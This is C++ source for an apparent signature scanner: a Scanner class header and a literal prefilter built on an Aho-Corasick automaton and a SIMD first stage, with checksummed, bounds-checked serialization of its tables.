  std::size_t signature_index;  // index into the scanner's signature list
  std::size_t begin;            // match span in the scanned text
  std::size_t end;
};

class Scanner {
 public:
  Scanner() = default;
  // Scanners are stateful (lazy prefilter, counters); copying one would
  // silently fork those. Keep them pinned.
  Scanner(const Scanner&) = delete;
  Scanner& operator=(const Scanner&) = delete;

  // Adds a compiled signature; returns its index. `name` is a free-form
  // label carried through to reporting. Not safe to call concurrently
  // with scans.
  std::size_t add(std::string name, Pattern pattern);

  std::size_t size() const { return entries_.size(); }
  const std::string& name(std::size_t index) const;
  const Pattern& pattern(std::size_t index) const;

  // Scans `text`, returning one hit per matching signature (first match
  // position each). Signatures whose search exceeds the step budget are
  // skipped and counted in budget_exceeded_count().
  std::vector<ScanHit> scan(std::string_view text) const;

  // Reference path: per-signature search with no shared prefilter. Kept as
  // the oracle for differential tests and the baseline for benchmarks;
  // scan() must return byte-identical hits.
  std::vector<ScanHit> scan_brute_force(std::string_view text) const;

  // Scans a batch of samples across `pool`, one result vector per sample
  // (same order as `texts`). The pool must not run other work during the
  // call: ThreadPool::wait() is pool-global, so overlapping batches could
  // steal each other's completion and first-thrown exception, leaving a
  // sample's result row silently empty. Give each concurrent caller its
  // own pool — or use the overload without one, which spins up a
  // transient pool per call (`threads` == 0 means hardware concurrency)
  // and is safe to call concurrently.
  std::vector<std::vector<ScanHit>> scan_batch(
      std::span<const std::string> texts, ThreadPool& pool) const;
  std::vector<std::vector<ScanHit>> scan_batch(
      std::span<const std::string> texts, std::size_t threads = 0) const;

  // True iff any signature matches.
  bool any_match(std::string_view text) const;

  std::uint64_t budget_exceeded_count() const {
    return budget_exceeded_.load(std::memory_order_relaxed);
  }

 private:
  const LiteralPrefilter& prefilter() const;
  void scan_into(std::string_view text, const LiteralPrefilter& prefilter,
                 std::vector<std::size_t>& candidates,
                 std::vector<ScanHit>& hits) const;

  struct Entry {
    std::string name;
    Pattern pattern;
  };
  std::vector<Entry> entries_;
  // Concurrent batch scans all bump this; relaxed is fine — it is a
  // monotonic statistic, never synchronizes anything.
  mutable std::atomic<std::uint64_t> budget_exceeded_{0};
  LazyPrefilter prefilter_;
};

}  // namespace kizzle::match
