#include "match/prefilter.h"

#include <algorithm>
#include <cstring>
#include <istream>
#include <ostream>
#include <queue>
#include <sstream>
#include <stdexcept>
#include <type_traits>

#include "support/errors.h"
#include "support/hash.h"

namespace kizzle::match {

namespace {
constexpr std::int32_t kNone = -1;

// Merges the sorted automaton hits in `out` with the sorted `fallback` ids
// (the two sets are disjoint by construction). std::inplace_merge may heap-
// allocate a temporary buffer, which would break the scan path's zero-
// allocation guarantee; merging from the back into the resized vector
// needs no staging — the write cursor k == i + j stays strictly ahead of
// the unread hit prefix while any fallback element remains.
void merge_fallback(std::vector<std::size_t>& out,
                    const std::vector<std::size_t>& fallback) {
  if (fallback.empty()) return;
  std::size_t i = out.size();
  std::size_t j = fallback.size();
  out.resize(i + j);
  std::size_t k = out.size();
  while (j > 0) {
    if (i > 0 && out[i - 1] > fallback[j - 1]) {
      out[--k] = out[--i];
    } else {
      out[--k] = fallback[--j];
    }
  }
  // out[0..i) is already in place.
}

}  // namespace

void LiteralPrefilter::add(std::size_t id, std::string_view literal) {
  if (literal.empty()) {
    fallback_raw_.push_back(id);
  } else {
    keywords_.push_back(Keyword{std::string(literal), id});
  }
  ++n_ids_;
  id_limit_ = std::max(id_limit_, id + 1);
  built_ = false;
}

void LiteralPrefilter::finalize_derived() {
  // The sorted/deduplicated fallback list and the distinct-automaton-id
  // count are regenerated from the raw registrations on every build (and
  // on load), never updated in place: rebuilds cannot accumulate stale or
  // repeated entries no matter how add()/build() calls interleave.
  fallback_ = fallback_raw_;
  std::sort(fallback_.begin(), fallback_.end());
  fallback_.erase(std::unique(fallback_.begin(), fallback_.end()),
                  fallback_.end());
  std::vector<std::size_t> ids;
  ids.reserve(keywords_.size());
  for (const Keyword& kw : keywords_) ids.push_back(kw.id);
  std::sort(ids.begin(), ids.end());
  ids.erase(std::unique(ids.begin(), ids.end()), ids.end());
  n_automaton_ids_ = ids.size();

  // The Teddy first stage is derived state too: rebuilt from the raw
  // registrations here (build() and load() both funnel through), never
  // serialized — the `.kpf` layout is untouched. PlanSet::build shards by
  // length class and compiles every non-empty literal set, so the only way
  // scans take the automaton walk is the explicit override or an
  // over-4-GiB text.
  std::vector<teddy::PlanSet::Literal> lits;
  lits.reserve(keywords_.size());
  for (const Keyword& kw : keywords_) {
    lits.push_back(teddy::PlanSet::Literal{kw.literal, kw.id});
  }
  teddy_ =
      lits.empty() ? std::nullopt : teddy::PlanSet::build(std::move(lits));

  // Dense-shard routing, decided PER SHARD: a shard whose build-time
  // density estimate says its first stage would fire on more than a fifth
  // of all scanned bytes is confirm-bound, so its literals leave the SIMD
  // pass and walk a dedicated sub-automaton instead; the remaining
  // (selective) shards keep the Teddy path. All-dense sets route to the
  // full main automaton exactly as before — the sub-automaton would just
  // duplicate it. All of it is derived state like the plan itself, so
  // built and loaded prefilters route identically.
  dense_shard_.clear();
  n_dense_shards_ = 0;
  dense_ = AcTables{};
  teddy_dense_ = false;
  if (!teddy_.has_value()) return;
  dense_shard_.assign(teddy_->shard_count(), 0);
  for (std::size_t i = 0; i < teddy_->shard_count(); ++i) {
    if (teddy_->shards()[i].hit_density_estimate() > kDenseRouteHitsPerByte) {
      dense_shard_[i] = 1;
      ++n_dense_shards_;
    }
  }
  teddy_dense_ = n_dense_shards_ == teddy_->shard_count();
  if (n_dense_shards_ == 0 || teddy_dense_) return;
  // Hybrid route: compile the dense shards' literals (in shard order —
  // deterministic, like every derived table) into the sub-automaton.
  std::vector<Keyword> dense_kws;
  for (std::size_t i = 0; i < teddy_->shard_count(); ++i) {
    if (dense_shard_[i] == 0) continue;
    for (const teddy::Plan::Literal& lit : teddy_->shards()[i].literals()) {
      dense_kws.push_back(Keyword{lit.text, lit.id});
    }
  }
  dense_ = compile_automaton(dense_kws);
}

bool LiteralPrefilter::route_teddy(std::string_view text) const {
  // Hit positions are 32-bit; anything larger (never seen in practice —
  // scanned units are samples and bounded stream windows) walks the
  // automaton instead.
  return use_teddy() && text.size() <= 0xFFFFFFFFu;
}

LiteralPrefilter::AcTables LiteralPrefilter::compile_automaton(
    const std::vector<Keyword>& keywords) {
  AcTables t;
  // Reduced alphabet: one column per byte value that occurs in a literal.
  t.alpha.fill(kNoCode);
  for (const Keyword& kw : keywords) {
    for (char c : kw.literal) {
      const auto b = static_cast<unsigned char>(c);
      if (t.alpha[b] == kNoCode) {
        t.alpha[b] = static_cast<std::uint16_t>(t.alpha_size++);
      }
    }
  }

  // Trie of keywords over the reduced alphabet.
  t.next.assign(t.alpha_size, kNone);  // state 0 = root
  std::vector<std::vector<std::size_t>> outputs(1);
  auto n_states = [&] {
    return t.next.size() / std::max<std::size_t>(t.alpha_size, 1);
  };
  for (const Keyword& kw : keywords) {
    std::int32_t state = 0;
    for (char c : kw.literal) {
      const std::uint16_t code = t.alpha[static_cast<unsigned char>(c)];
      const std::size_t slot =
          static_cast<std::size_t>(state) * t.alpha_size + code;
      if (t.next[slot] == kNone) {
        const auto fresh = static_cast<std::int32_t>(n_states());
        t.next.resize(t.next.size() + t.alpha_size, kNone);  // may reallocate
        t.next[slot] = fresh;
        outputs.emplace_back();
      }
      state = t.next[slot];
    }
    outputs[static_cast<std::size_t>(state)].push_back(kw.id);
  }

  // BFS: compute fail links, convert goto to a full DFA over the reduced
  // alphabet, and resolve each state's nearest output-bearing suffix.
  const std::size_t total = n_states();
  std::vector<std::int32_t> fail(total, 0);
  t.out_link.assign(total, kNone);
  std::queue<std::int32_t> bfs;
  for (std::size_t c = 0; c < t.alpha_size; ++c) {
    std::int32_t& slot = t.next[c];
    if (slot == kNone) {
      slot = 0;
    } else {
      bfs.push(slot);
    }
  }
  while (!bfs.empty()) {
    const std::int32_t s = bfs.front();
    bfs.pop();
    const std::int32_t f = fail[static_cast<std::size_t>(s)];
    t.out_link[static_cast<std::size_t>(s)] =
        outputs[static_cast<std::size_t>(f)].empty()
            ? t.out_link[static_cast<std::size_t>(f)]
            : f;
    for (std::size_t c = 0; c < t.alpha_size; ++c) {
      std::int32_t& slot =
          t.next[static_cast<std::size_t>(s) * t.alpha_size + c];
      const std::int32_t via_fail =
          t.next[static_cast<std::size_t>(f) * t.alpha_size + c];
      if (slot == kNone) {
        slot = via_fail;
      } else {
        fail[static_cast<std::size_t>(slot)] = via_fail;
        bfs.push(slot);
      }
    }
  }

  // Flatten per-state output lists.
  t.out_begin.assign(total, 0);
  t.out_end.assign(total, 0);
  for (std::size_t s = 0; s < total; ++s) {
    t.out_begin[s] = static_cast<std::int32_t>(t.out_ids.size());
    t.out_ids.insert(t.out_ids.end(), outputs[s].begin(), outputs[s].end());
    t.out_end[s] = static_cast<std::int32_t>(t.out_ids.size());
  }
  return t;
}

std::size_t LiteralPrefilter::ac_walk(const AcTables& t, std::string_view text,
                                      std::int32_t& state,
                                      std::vector<std::uint8_t>& seen,
                                      std::vector<std::size_t>& out,
                                      std::size_t n_seen,
                                      std::size_t stop_at) {
  if (t.alpha_size == 0 || n_seen >= stop_at) return n_seen;
  std::int32_t s_cur = state;
  for (const char ch : text) {
    const std::uint16_t code = t.alpha[static_cast<unsigned char>(ch)];
    if (code == kNoCode) {
      s_cur = 0;
      continue;
    }
    s_cur = t.next[static_cast<std::size_t>(s_cur) * t.alpha_size + code];
    for (std::int32_t s = s_cur; s != kNone;
         s = t.out_link[static_cast<std::size_t>(s)]) {
      if (t.out_begin[static_cast<std::size_t>(s)] ==
          t.out_end[static_cast<std::size_t>(s)]) {
        continue;  // root (or a pure-prefix state reached directly)
      }
      for (std::int32_t i = t.out_begin[static_cast<std::size_t>(s)];
           i < t.out_end[static_cast<std::size_t>(s)]; ++i) {
        const std::size_t id = t.out_ids[static_cast<std::size_t>(i)];
        if (!seen[id]) {
          seen[id] = 1;
          out.push_back(id);
          ++n_seen;
        }
      }
    }
    if (n_seen >= stop_at) break;
  }
  state = s_cur;
  return n_seen;
}

void LiteralPrefilter::build() {
  AcTables t = compile_automaton(keywords_);
  alpha_ = t.alpha;
  alpha_size_ = t.alpha_size;
  next_.reset(std::move(t.next));
  out_link_.reset(std::move(t.out_link));
  out_begin_.reset(std::move(t.out_begin));
  out_end_.reset(std::move(t.out_end));
  out_ids_.reset(std::move(t.out_ids));

  finalize_derived();
  built_ = true;
}

std::vector<std::size_t> LiteralPrefilter::candidates(
    std::string_view text) const {
  std::vector<std::size_t> out;
  candidates_into(text, out);
  return out;
}

void LiteralPrefilter::candidates_into(std::string_view text,
                                       std::vector<std::size_t>& out) const {
  // Callers without a scratch of their own share a per-thread hit buffer.
  thread_local teddy::HitBuffer hits;
  candidates_into(text, out, hits);
}

void LiteralPrefilter::candidates_into(std::string_view text,
                                       std::vector<std::size_t>& out,
                                       teddy::HitBuffer& hits,
                                       PrefilterStats* stats,
                                       std::vector<std::uint32_t>* hints) const {
  if (!built_) {
    throw std::logic_error("LiteralPrefilter: candidates before build()");
  }
  out.clear();
  if (stats != nullptr) *stats = PrefilterStats{};
  if (hints != nullptr) hints->assign(id_limit_, teddy::kNoHint);
  if (n_automaton_ids_ == 0 || alpha_size_ == 0) {
    out = fallback_;
    if (stats != nullptr) stats->fallback = PrefilterFallback::kNoLiterals;
    return;
  }

  // Reused across calls (per thread) — this runs once per scanned sample,
  // and a fresh zeroed vector per call was the scan path's last
  // avoidable allocation.
  thread_local std::vector<std::uint8_t> seen;
  seen.assign(id_limit_, 0);

  if (route_teddy(text)) {
    teddy::ScanCounters counters;
    const bool hybrid = n_dense_shards_ > 0;  // some (not all) shards dense
    std::size_t n_seen =
        teddy_->find(text, hits, seen, out, 0, n_automaton_ids_, &counters,
                     hints, hybrid ? &dense_shard_ : nullptr);
    if (hybrid) {
      // Dense shards skipped above: their literals walk the sub-automaton.
      // Ids found here leave their hints at kNoHint — the confirm tier
      // falls back to a full-text anchor search, same as the automaton
      // route always has.
      std::int32_t state = 0;
      n_seen = ac_walk(dense_, text, state, seen, out, n_seen,
                       n_automaton_ids_);
    }
    if (stats != nullptr) {
      stats->first_stage_hits = counters.first_stage_hits;
      stats->shards_scanned = counters.shards_scanned;
      stats->dense_shards = n_dense_shards_;
      stats->literal_survivors = out.size();
    }
    std::sort(out.begin(), out.end());
    merge_fallback(out, fallback_);
    return;
  }
  if (stats != nullptr) {
    stats->fallback = first_stage_ == FirstStage::kAutomaton
                          ? PrefilterFallback::kForcedAutomaton
                      : teddy_dense_ ? PrefilterFallback::kDenseLiterals
                                     : PrefilterFallback::kTextTooLarge;
  }

  // Hoist the table base pointers once: the tables may be owned or
  // borrowed (TableRef), and resolving that per byte would put a branch
  // in the innermost loop.
  const std::int32_t* const next = next_.data();
  const std::int32_t* const out_link = out_link_.data();
  const std::int32_t* const out_begin = out_begin_.data();
  const std::int32_t* const out_end = out_end_.data();
  const std::size_t* const out_ids = out_ids_.data();
  std::size_t n_seen = 0;
  std::int32_t state = 0;
  for (const char ch : text) {
    const std::uint16_t code = alpha_[static_cast<unsigned char>(ch)];
    if (code == kNoCode) {
      state = 0;
      continue;
    }
    state = next[static_cast<std::size_t>(state) * alpha_size_ + code];
    for (std::int32_t s = state; s != kNone;
         s = out_link[static_cast<std::size_t>(s)]) {
      if (out_begin[static_cast<std::size_t>(s)] ==
          out_end[static_cast<std::size_t>(s)]) {
        continue;  // root (or a pure-prefix state reached directly)
      }
      for (std::int32_t i = out_begin[static_cast<std::size_t>(s)];
           i < out_end[static_cast<std::size_t>(s)]; ++i) {
        const std::size_t id = out_ids[static_cast<std::size_t>(i)];
        if (!seen[id]) {
          seen[id] = 1;
          out.push_back(id);
          ++n_seen;
        }
      }
    }
    if (n_seen == n_automaton_ids_) break;  // every filtered id found
  }

  if (stats != nullptr) stats->literal_survivors = out.size();
  std::sort(out.begin(), out.end());
  // Merge in the (sorted, deduped) fallback ids.
  merge_fallback(out, fallback_);
}

// ----------------------------- introspection -----------------------------

LiteralPrefilter::TableView LiteralPrefilter::tables() const {
  TableView v;
  v.alpha = &alpha_;
  v.alpha_size = alpha_size_;
  v.next = next_.view();
  v.out_link = out_link_.view();
  v.out_begin = out_begin_.view();
  v.out_end = out_end_.view();
  v.out_ids = out_ids_.view();
  v.fallback = std::span<const std::size_t>(fallback_);
  v.n_ids = n_ids_;
  v.id_limit = id_limit_;
  return v;
}

std::vector<LiteralPrefilter::Registration> LiteralPrefilter::registrations()
    const {
  std::vector<Registration> regs;
  regs.reserve(keywords_.size() + fallback_raw_.size());
  for (const Keyword& kw : keywords_) {
    regs.push_back(Registration{kw.literal, kw.id});
  }
  for (const std::size_t id : fallback_raw_) {
    regs.push_back(Registration{std::string_view(), id});
  }
  return regs;
}

// ----------------------------- persistence -----------------------------

namespace {

constexpr char kMagic[4] = {'K', 'Z', 'P', 'F'};
constexpr std::uint32_t kEndianSentinel = 0x01020304u;
constexpr std::uint64_t kCkBasis = kizzle::kChecksumBasis;
// Table sizes beyond this are rejected before allocation: a corrupt count
// must not drive the loader into a multi-gigabyte resize before the
// trailing checksum gets a chance to catch it. 16M elements is orders of
// magnitude above any realistic signature database's automaton.
constexpr std::uint64_t kMaxTableElems = 1ull << 24;
// v2: section alignment (so borrowed spans are naturally aligned and
// cache-line clean) and the payload allocation cap for the istream path.
constexpr std::size_t kSectionAlign = 64;
constexpr std::uint64_t kMaxPayloadBytes = 1ull << 30;
// v2 fixed header: magic(4) version(4) endian(4) pad(4) payload_size(8)
// n_ids(8) id_limit(8) alpha_size(8) alpha(512).
constexpr std::size_t kV2FixedHeader = 4 + 4 + 4 + 4 + 8 + 8 + 8 + 8 + 512;
constexpr std::size_t kV2SizeOffset = 16;  // payload_size field offset

class CheckedWriter {
 public:
  explicit CheckedWriter(std::ostream& os) : os_(os) {}

  void bytes(const void* p, std::size_t n) {
    os_.write(static_cast<const char*>(p), static_cast<std::streamsize>(n));
    checksum_update(sum_, p, n);
  }
  template <typename T>
  void num(T v) {
    bytes(&v, sizeof v);
  }
  void u64s(std::span<const std::size_t> v) {
    num<std::uint64_t>(v.size());
    for (std::size_t x : v) num<std::uint64_t>(x);
  }
  void i32s(std::span<const std::int32_t> v) {
    num<std::uint64_t>(v.size());
    if (!v.empty()) bytes(v.data(), v.size() * sizeof(std::int32_t));
  }
  void finish() {
    // The checksum trailer is the only field not covered by itself.
    const std::uint64_t sum = sum_;
    os_.write(reinterpret_cast<const char*>(&sum), sizeof sum);
    if (!os_) throw std::runtime_error("LiteralPrefilter: serialize failed");
  }

 private:
  std::ostream& os_;
  std::uint64_t sum_ = kCkBasis;
};

// v2 payloads are built in memory and checksummed in ONE pass (the tail
// fold in checksum_update makes call granularity part of the sum, and a
// zero-copy reader verifies the mapped payload in one call).
class PayloadBuilder {
 public:
  void bytes(const void* p, std::size_t n) {
    buf_.append(static_cast<const char*>(p), n);
  }
  template <typename T>
  void num(T v) {
    bytes(&v, sizeof v);
  }
  void pad_to(std::size_t align) {
    buf_.resize((buf_.size() + align - 1) / align * align, '\0');
  }
  std::size_t size() const { return buf_.size(); }
  std::string& str() { return buf_; }

 private:
  std::string buf_;
};

// Bounds-checked cursor over a v2 payload. Every read is memcpy-based, so
// the source needs no alignment; only borrowed table sections require the
// 64-byte base alignment the format guarantees.
class BlobCursor {
 public:
  explicit BlobCursor(std::span<const std::byte> blob) : blob_(blob) {}

  void bytes(void* p, std::size_t n) {
    if (n > blob_.size() - pos_ || pos_ > blob_.size()) {
      throw ArtifactError("LiteralPrefilter: truncated artifact");
    }
    std::memcpy(p, blob_.data() + pos_, n);
    pos_ += n;
  }
  template <typename T>
  T num() {
    T v;
    bytes(&v, sizeof v);
    return v;
  }
  std::uint64_t count() {
    const auto n = num<std::uint64_t>();
    if (n > kMaxTableElems) {
      throw ResourceError("LiteralPrefilter: implausible table size");
    }
    return n;
  }
  std::size_t pos() const { return pos_; }

 private:
  std::span<const std::byte> blob_;
  std::size_t pos_ = 0;
};

class CheckedReader {
 public:
  explicit CheckedReader(std::istream& is) : is_(is) {}

  // Folds already-consumed header bytes into the checksum without reading
  // (the version sniff happens before the reader exists).
  void absorb(const void* p, std::size_t n) { checksum_update(sum_, p, n); }

  void bytes(void* p, std::size_t n) {
    is_.read(static_cast<char*>(p), static_cast<std::streamsize>(n));
    if (!is_) {
      throw ArtifactError("LiteralPrefilter: truncated artifact");
    }
    checksum_update(sum_, p, n);
  }
  template <typename T>
  T num() {
    T v;
    bytes(&v, sizeof v);
    return v;
  }
  std::uint64_t count() {
    const std::uint64_t n = num<std::uint64_t>();
    if (n > kMaxTableElems) {
      // Well-formed syntax, hostile size: the declared count would drive
      // an allocation past the cap, so it is a resource rejection — the
      // buffer for it is never allocated.
      throw ResourceError("LiteralPrefilter: implausible table size");
    }
    return n;
  }
  void u64s(std::vector<std::size_t>& v) {
    v.resize(count());
    for (std::size_t& x : v) x = static_cast<std::size_t>(num<std::uint64_t>());
  }
  void i32s(std::vector<std::int32_t>& v) {
    v.resize(count());
    if (!v.empty()) bytes(v.data(), v.size() * sizeof(std::int32_t));
  }
  void verify_checksum() {
    const std::uint64_t expect = sum_;
    std::uint64_t stored;
    is_.read(reinterpret_cast<char*>(&stored), sizeof stored);
    if (!is_ || stored != expect) {
      throw ArtifactError("LiteralPrefilter: checksum mismatch");
    }
  }

 private:
  std::istream& is_;
  std::uint64_t sum_ = kCkBasis;
};

}  // namespace

void LiteralPrefilter::serialize(std::ostream& os,
                                 std::uint32_t version) const {
  if (!built_) {
    throw std::logic_error("LiteralPrefilter: serialize before build()");
  }
  if (version == 1) {
    // Legacy layout: stream-framed fields, call-granular checksum.
    CheckedWriter w(os);
    w.bytes(kMagic, sizeof kMagic);
    w.num<std::uint32_t>(1);
    w.num<std::uint32_t>(kEndianSentinel);
    w.num<std::uint64_t>(n_ids_);
    w.num<std::uint64_t>(id_limit_);
    w.num<std::uint64_t>(alpha_size_);
    w.bytes(alpha_.data(), alpha_.size() * sizeof(std::uint16_t));
    w.i32s(next_.view());
    w.i32s(out_link_.view());
    w.i32s(out_begin_.view());
    w.i32s(out_end_.view());
    w.u64s(out_ids_.view());
    w.u64s(fallback_raw_);
    // Raw keyword registrations ride along so a loaded automaton supports
    // further add()+build() exactly like the original.
    w.num<std::uint64_t>(keywords_.size());
    for (const Keyword& kw : keywords_) {
      w.num<std::uint64_t>(kw.id);
      w.num<std::uint64_t>(kw.literal.size());
      w.bytes(kw.literal.data(), kw.literal.size());
    }
    w.finish();
    return;
  }
  if (version != 2) {
    throw std::logic_error("LiteralPrefilter: unknown serialize version");
  }

  // v2: header + registrations + a section directory, then the five table
  // sections at 64-byte-aligned offsets (relative to the blob start — a
  // mapping of the blob at an aligned base keeps them aligned in memory),
  // each length-prefixed through the directory. The whole payload is
  // checksummed in one pass and the trailer follows it.
  PayloadBuilder p;
  p.bytes(kMagic, sizeof kMagic);
  p.num<std::uint32_t>(2);
  p.num<std::uint32_t>(kEndianSentinel);
  p.num<std::uint32_t>(0);                 // pad / reserved
  p.num<std::uint64_t>(0);                 // payload_size backpatched below
  p.num<std::uint64_t>(n_ids_);
  p.num<std::uint64_t>(id_limit_);
  p.num<std::uint64_t>(alpha_size_);
  p.bytes(alpha_.data(), alpha_.size() * sizeof(std::uint16_t));
  p.num<std::uint64_t>(fallback_raw_.size());
  for (const std::size_t id : fallback_raw_) p.num<std::uint64_t>(id);
  p.num<std::uint64_t>(keywords_.size());
  for (const Keyword& kw : keywords_) {
    p.num<std::uint64_t>(kw.id);
    p.num<std::uint64_t>(kw.literal.size());
    p.bytes(kw.literal.data(), kw.literal.size());
  }

  // Section directory: elem count + blob-relative byte offset per table.
  struct Section {
    const void* data;
    std::size_t count;
    std::size_t elem_size;
  };
  const Section sections[] = {
      {next_.data(), next_.size(), sizeof(std::int32_t)},
      {out_link_.data(), out_link_.size(), sizeof(std::int32_t)},
      {out_begin_.data(), out_begin_.size(), sizeof(std::int32_t)},
      {out_end_.data(), out_end_.size(), sizeof(std::int32_t)},
      {out_ids_.data(), out_ids_.size(), sizeof(std::uint64_t)},
  };
  constexpr std::size_t kNSections = std::size(sections);
  p.num<std::uint64_t>(kNSections);
  const std::size_t dir_end = p.size() + kNSections * 16;
  std::size_t off = (dir_end + kSectionAlign - 1) / kSectionAlign * kSectionAlign;
  for (const Section& s : sections) {
    p.num<std::uint64_t>(s.count);
    p.num<std::uint64_t>(off);
    const std::size_t bytes = s.count * s.elem_size;
    off = (off + bytes + kSectionAlign - 1) / kSectionAlign * kSectionAlign;
  }
  for (const Section& s : sections) {
    p.pad_to(kSectionAlign);
    p.bytes(s.data, s.count * s.elem_size);
  }
  p.pad_to(kSectionAlign);

  std::string& payload = p.str();
  const auto payload_size = static_cast<std::uint64_t>(payload.size());
  std::memcpy(payload.data() + kV2SizeOffset, &payload_size,
              sizeof payload_size);
  static_assert(sizeof(std::size_t) == sizeof(std::uint64_t),
                "v2 zero-copy layout assumes 64-bit size_t");
  std::uint64_t sum = kCkBasis;
  checksum_update(sum, payload.data(), payload.size());
  os.write(payload.data(), static_cast<std::streamsize>(payload.size()));
  os.write(reinterpret_cast<const char*>(&sum), sizeof sum);
  if (!os) throw std::runtime_error("LiteralPrefilter: serialize failed");
}

LiteralPrefilter LiteralPrefilter::parse_v2(std::span<const std::byte> blob,
                                            bool borrow,
                                            std::size_t* consumed) {
  BlobCursor header(blob);
  char magic[4];
  header.bytes(magic, sizeof magic);
  if (!std::equal(magic, magic + 4, kMagic)) {
    throw ArtifactError("LiteralPrefilter: bad magic");
  }
  if (header.num<std::uint32_t>() != 2) {
    throw ArtifactError("LiteralPrefilter: not a v2 blob");
  }
  if (header.num<std::uint32_t>() != kEndianSentinel) {
    throw ArtifactError(
        "LiteralPrefilter: artifact endianness does not match this host");
  }
  header.num<std::uint32_t>();  // pad
  const auto payload_size = header.num<std::uint64_t>();
  if (payload_size < kV2FixedHeader) {
    throw ArtifactError("LiteralPrefilter: implausible payload size");
  }
  // Refused before any allocation or read sized by it: a declared
  // multi-gigabyte payload is a resource attack, not a format error.
  if (payload_size > kMaxPayloadBytes) {
    throw ResourceError("LiteralPrefilter: implausible payload size");
  }
  if (payload_size + 8 > blob.size()) {
    throw ArtifactError("LiteralPrefilter: truncated artifact");
  }
  // One pass over the payload seals everything — header, registrations,
  // directory, sections, padding — before any of it is interpreted.
  std::uint64_t sum = kCkBasis;
  checksum_update(sum, blob.data(), static_cast<std::size_t>(payload_size));
  std::uint64_t stored;
  std::memcpy(&stored, blob.data() + payload_size, sizeof stored);
  if (stored != sum) {
    throw ArtifactError("LiteralPrefilter: checksum mismatch");
  }
  if (consumed != nullptr) {
    *consumed = static_cast<std::size_t>(payload_size) + 8;
  }
  const std::span<const std::byte> payload =
      blob.first(static_cast<std::size_t>(payload_size));

  LiteralPrefilter pf;
  BlobCursor c(payload);
  c.bytes(magic, sizeof magic);  // re-walk the verified header
  c.num<std::uint32_t>();
  c.num<std::uint32_t>();
  c.num<std::uint32_t>();
  c.num<std::uint64_t>();
  pf.n_ids_ = static_cast<std::size_t>(c.num<std::uint64_t>());
  pf.id_limit_ = static_cast<std::size_t>(c.num<std::uint64_t>());
  pf.alpha_size_ = static_cast<std::size_t>(c.num<std::uint64_t>());
  // id_limit_ sizes the per-scan dedup bitmap; an implausible value must
  // fail here, not OOM the first candidates() call.
  if (pf.n_ids_ > kMaxTableElems || pf.id_limit_ > kMaxTableElems) {
    throw ResourceError("LiteralPrefilter: implausible id count");
  }
  c.bytes(pf.alpha_.data(), pf.alpha_.size() * sizeof(std::uint16_t));
  pf.fallback_raw_.resize(static_cast<std::size_t>(c.count()));
  for (std::size_t& id : pf.fallback_raw_) {
    id = static_cast<std::size_t>(c.num<std::uint64_t>());
  }
  pf.keywords_.resize(static_cast<std::size_t>(c.count()));
  for (Keyword& kw : pf.keywords_) {
    kw.id = static_cast<std::size_t>(c.num<std::uint64_t>());
    kw.literal.resize(static_cast<std::size_t>(c.count()));
    if (!kw.literal.empty()) c.bytes(kw.literal.data(), kw.literal.size());
  }

  const auto n_sections = c.num<std::uint64_t>();
  if (n_sections != 5) {
    throw ArtifactError("LiteralPrefilter: unexpected section count");
  }
  struct Dir {
    std::size_t count;
    std::size_t offset;
  };
  std::array<Dir, 5> dir{};
  for (Dir& d : dir) {
    d.count = static_cast<std::size_t>(c.count());
    d.offset = static_cast<std::size_t>(c.num<std::uint64_t>());
  }
  // A misaligned blob base cannot serve aligned views; fall back to owned
  // copies with identical semantics.
  const bool aligned =
      reinterpret_cast<std::uintptr_t>(blob.data()) % kSectionAlign == 0;
  const bool take_views = borrow && aligned;
  const auto section = [&](const Dir& d, std::size_t elem_size,
                           auto& table) {
    using T = std::remove_cvref_t<decltype(table[0])>;
    const std::size_t bytes = d.count * elem_size;
    if (d.offset % kSectionAlign != 0 || d.offset < c.pos() ||
        d.offset > payload.size() || bytes > payload.size() - d.offset) {
      throw ArtifactError("LiteralPrefilter: section out of bounds");
    }
    if (take_views) {
      table.reset_view(reinterpret_cast<const T*>(payload.data() + d.offset),
                       d.count);
    } else {
      std::vector<T> own(d.count);
      if (bytes > 0) std::memcpy(own.data(), payload.data() + d.offset, bytes);
      table.reset(std::move(own));
    }
  };
  section(dir[0], sizeof(std::int32_t), pf.next_);
  section(dir[1], sizeof(std::int32_t), pf.out_link_);
  section(dir[2], sizeof(std::int32_t), pf.out_begin_);
  section(dir[3], sizeof(std::int32_t), pf.out_end_);
  section(dir[4], sizeof(std::uint64_t), pf.out_ids_);

  pf.validate_loaded();
  return pf;
}

void LiteralPrefilter::validate_loaded() {
  // Structural sanity: table shapes must agree before the automaton is
  // allowed to walk anything. Identical for owned and borrowed tables.
  const std::size_t total = out_link_.size();
  if (alpha_size_ > 256 ||
      out_begin_.size() != total || out_end_.size() != total ||
      next_.size() != total * alpha_size_) {
    throw ArtifactError("LiteralPrefilter: inconsistent table shapes");
  }
  for (std::size_t b = 0; b < alpha_.size(); ++b) {
    if (alpha_[b] != kNoCode && alpha_[b] >= alpha_size_) {
      throw ArtifactError("LiteralPrefilter: alphabet code out of range");
    }
  }
  for (const std::int32_t s : next_) {
    if (s < 0 || static_cast<std::size_t>(s) >= std::max<std::size_t>(total, 1)) {
      throw ArtifactError("LiteralPrefilter: goto target out of range");
    }
  }
  for (std::size_t s = 0; s < total; ++s) {
    const std::int32_t link = out_link_[s];
    if (link != kNone &&
        (link < 0 || static_cast<std::size_t>(link) >= total)) {
      throw ArtifactError("LiteralPrefilter: output link out of range");
    }
    const std::int32_t b = out_begin_[s];
    const std::int32_t e = out_end_[s];
    if (b < 0 || e < b || static_cast<std::size_t>(e) > out_ids_.size()) {
      throw ArtifactError("LiteralPrefilter: output slice out of range");
    }
  }
  for (const std::size_t id : out_ids_) {
    if (id >= id_limit_) {
      throw ArtifactError("LiteralPrefilter: output id out of range");
    }
  }
  // The raw registrations must be consistent with the header and stay
  // inside the id space — otherwise a later candidates() (or a
  // rebuild-after-load) indexes the dedup bitmap out of bounds.
  if (n_ids_ != keywords_.size() + fallback_raw_.size()) {
    throw ArtifactError(
        "LiteralPrefilter: registration count disagrees with header");
  }
  for (const std::size_t id : fallback_raw_) {
    if (id >= id_limit_) {
      throw ArtifactError("LiteralPrefilter: fallback id out of range");
    }
  }
  for (const Keyword& kw : keywords_) {
    if (kw.id >= id_limit_ || kw.literal.empty()) {
      throw ArtifactError("LiteralPrefilter: bad keyword registration");
    }
  }

  finalize_derived();
  // Registered literals imply a walkable automaton (root state + reduced
  // alphabet); without this, the scan loop would index empty tables.
  if (n_automaton_ids_ > 0 && (total == 0 || alpha_size_ == 0)) {
    throw ArtifactError(
        "LiteralPrefilter: automaton tables missing for registered literals");
  }
  built_ = true;
}
